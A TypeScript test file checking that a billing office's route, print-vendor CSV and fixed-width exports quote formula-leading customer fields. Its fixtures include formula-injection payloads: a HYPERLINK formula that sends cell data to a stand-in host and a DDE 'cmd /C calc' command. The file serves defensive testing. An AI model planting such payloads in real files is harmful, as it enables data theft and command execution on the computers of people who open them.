/**
 * Issue 12, "CSV formula injection": a customer whose last name, first name, streets and city are
 * spreadsheet formulas is written into the route file, the print vendor's CSV and its fixed-width
 * file (through the operations and through the CLI). Every such cell must come out with a single
 * quote in front (OWASP's rule), nothing live, while the office's own numbers — amounts, counts,
 * readings ranges — stay plain numbers the vendor can parse.
 */
import { parse } from 'csv-parse/sync';
import { readFileSync } from 'node:fs';
import { join, resolve } from 'node:path';
import { afterEach, describe, expect, it } from 'vitest';
import { fixedClock } from '../../src-main/core/clock';
import { DETAIL_FIELDS, RECORD_LENGTH, detailField } from '../../src-main/core/billing/print/fixed-width';
import { periodMinusMonths } from '../../src-main/core/reads/validate';
import { expectExit, runCli } from '../support/cli';
import { TEST_PASSWORD, TEST_USERS, createTestOffice, type TestOffice } from '../support/office';
import { PERIOD, createCycle, importRows, row } from './reads-support';

const RATES = readFileSync(resolve(__dirname, '../../src-main/core/rates/samples/valle-verde.json'), 'utf8');
const RUN = { cycle: 1, period: PERIOD, billDate: '2026-11-12', dueDate: '2026-12-02' };

const LAST = '=HYPERLINK("http://x/?"&A1,"Pay here")';
const FIRST = '@SUM(1+1)';
const STREET = "+cmd|' /C calc'!A0";
const CITY = '-1+1';

/** A cell a spreadsheet would run: it starts with = + - @ TAB or CR and is not a plain number. */
const live = (cell: string) => /^[=+\-@\t\r]/.test(cell) && !/^-?\d+(\.\d+)?$/.test(cell);
const liveCells = (rows: string[][]) => rows.flat().filter(live);

let office: TestOffice | undefined;
afterEach(() => office?.cleanup());

/** The test cycle (reads-support.ts) plus account M-6 on route R2, every name and address a formula. */
async function hostileOffice(): Promise<{ office: TestOffice; accountNumber: string }> {
  office = await createTestOffice({ clock: fixedClock('2026-11-12T17:00:00.000Z') });
  await createCycle(office);
  const account = await office.as('clerk').must('accounts.create', {
    customer: { kind: 'person', firstName: FIRST, lastName: LAST, primaryPhone: '209-555-0100', mailing: { street: STREET, city: CITY, state: 'CA', zip: '95350' } },
    location: { street: STREET, city: 'Valle Verde', zip: '95350', route: 'R2', sequence: 6, cycle: 1 },
    meter: { serial: 'M-6', size: '5/8', dials: 4, unit: 'HCF', installedOn: '2025-09-01', initialReading: 0 },
    services: [{ service: 'water', rateClass: 'residential' }],
    openedOn: '2025-09-01',
  });
  // The same thirteen months of 10 HCF the other meters have, so the route file shows a range.
  const insert = office.runtime.database.sqlite.prepare(
    `INSERT INTO meter_reads (meter_id, account_id, read_date, reading, usage_hcf, estimated, source, created_at) VALUES (?, ?, ?, ?, '10', 0, 'amr', ?)`,
  );
  for (let month = 13; month >= 1; month -= 1) {
    const period = periodMinusMonths(PERIOD, month);
    insert.run(account.meters[0]!.meterId, account.accountId, `${period}-09`, (14 - month) * 10, `${period}-09T20:00:00.000Z`);
  }
  return { office, accountNumber: account.accountNumber };
}

async function postRun(o: TestOffice): Promise<number> {
  await o.as('supervisor').must('rates.import', { documentJson: RATES, note: 'FY 2026-27' });
  importRows(o, ['M-1', 'M-2', 'M-3', 'M-4', 'M-5', 'M-6'].map((serial, index) => row(index + 2, serial, '141')));
  const { run } = await o.as('technician').must('billing.createRun', RUN);
  await o.as('supervisor').must('billing.approve', { runId: run.runId });
  await o.as('technician').must('billing.post', { runId: run.runId });
  return run.runId;
}

const records = (csv: string) => parse(csv, { columns: true }) as Record<string, string>[];

describe('formula-leading cells in the files the office writes', () => {
  it('the route file quotes the hostile customer\'s cells and keeps the reading range numeric', async () => {
    const { office: o, accountNumber } = await hostileOffice();
    const exported = await o.as('technician').must('reads.routeExport', { cycle: 1, period: PERIOD, route: 'R2' });
    const rows = records(exported.csv);
    const hostile = rows.find((item) => item.Account === accountNumber)!;
    expect(hostile.Customer).toBe(`'${LAST}, ${FIRST}`);
    expect(hostile.Service_Address).toBe(`'${STREET}, Valle Verde`);
    // The office's numbers are untouched: 130 then 135 … 145 (average 10 HCF ± 50 %).
    expect([hostile.Sequence, hostile.Dials, hostile.Multiplier, hostile.Prior_Reading, hostile.Expected_Low_Reading, hostile.Expected_High_Reading]).toEqual(['6', '4', '1', '130', '135', '145']);
    expect(liveCells(parse(exported.csv) as string[][])).toEqual([]);
    // The row exactly as docs/formats/reads.md shows it.
    expect(exported.csv.split('\r\n')).toContain(
      `R2,6,${accountNumber},"'=HYPERLINK(""http://x/?""&A1,""Pay here""), @SUM(1+1)","'+cmd|' /C calc'!A0, Valle Verde",M-6,5/8,4,HCF,1,2026-10-09,130,135,145`,
    );
  });

  it('the print vendor\'s CSV quotes them, and its amounts stay numbers', async () => {
    const { office: o, accountNumber } = await hostileOffice();
    const runId = await postRun(o);
    const exported = await o.as('technician').must('billing.export', { runId, format: 'csv' });
    const hostile = records(exported.content).find((item) => item.account === accountNumber)!;
    // The 47-character name takes two lines (the shortening rule): each line is quoted on its own.
    expect([hostile.name, hostile.name_line_2, hostile.mailing_street, hostile.mailing_city, hostile.service_street]).toEqual([
      `'${FIRST}`, `'=HYPERLINK("http://x/?"&A1...`, `'${STREET}`, `'${CITY}`, `'${STREET}`,
    ]);
    // 11 HCF: $38.55 + $51.45 + 1 × $10.0275 = $100.03.
    expect([hostile.usage_hcf, hostile.previous_balance, hostile.current_charges, hostile.amount_due, hostile.line_1_amount]).toEqual(['11', '0.00', '100.03', '100.03', '38.55']);
    expect(liveCells(parse(exported.content) as string[][])).toEqual([]);
  });

  it('the fixed-width file quotes them within each field\'s width', async () => {
    const { office: o, accountNumber } = await hostileOffice();
    const runId = await postRun(o);
    const exported = await o.as('technician').must('billing.export', { runId, format: 'fixed' });
    const hostile = exported.content.split('\r\n').find((line) => line.startsWith(`D${accountNumber}`))!;
    expect(hostile).toHaveLength(RECORD_LENGTH);
    // The quote counts in the width: the name's first line, then its second, cut and marked within 30.
    expect(detailField(hostile, 'name')).toBe(`'${FIRST}`.padEnd(30));
    expect(detailField(hostile, 'nameLine2')).toBe(`'=HYPERLINK("http://x/?"&A1...`);
    expect(detailField(hostile, 'mailingStreet')).toBe(`'${STREET}`.padEnd(30));
    expect(detailField(hostile, 'serviceStreet')).toBe(`'${STREET}`.padEnd(30));
    expect(detailField(hostile, 'mailingCity')).toBe(`'${CITY}`.padEnd(20));
    // Signed cents keep their sign: the vendor's parser reads +0000010003.
    expect(detailField(hostile, 'currentCharges')).toBe('+0000010003');
    const textFields = DETAIL_FIELDS.filter((field) => field.type === 'text').map((field) => field.name);
    for (const line of exported.content.split('\r\n').filter((item) => item.startsWith('D'))) {
      expect(textFields.map((name) => detailField(line, name)).filter(live)).toEqual([]);
    }
  });

  it('the CLI writes the same neutralised files', async () => {
    const { office: o, accountNumber } = await hostileOffice();
    const runId = await postRun(o);
    o.runtime.close();
    const env = { BILLING_OFFICE_USER: TEST_USERS.technician, BILLING_OFFICE_PASSWORD: TEST_PASSWORD };
    const cli = (args: string[]) => runCli(o.folder, ['--db', o.databasePath, ...args], env);
    const printFile = join(o.folder, 'print.csv');
    expectExit(await cli(['billing', 'export', String(runId), '--format', 'csv', '--out', printFile]), 0);
    const printed = readFileSync(printFile, 'utf8');
    expect(records(printed).find((item) => item.account === accountNumber)!.name).toBe(`'${FIRST}`);
    expect(liveCells(parse(printed) as string[][])).toEqual([]);
    // The route file of December, when every meter of the cycle is still to read.
    const routeFile = join(o.folder, 'route.csv');
    expectExit(await cli(['reads', 'route-export', '--cycle', '1', '--period', '2026-12', '--out', routeFile]), 0);
    const route = readFileSync(routeFile, 'utf8');
    expect(records(route).find((item) => item.Account === accountNumber)!.Customer).toBe(`'${LAST}, ${FIRST}`);
    expect(liveCells(parse(route) as string[][])).toEqual([]);
  }, 60_000);
});
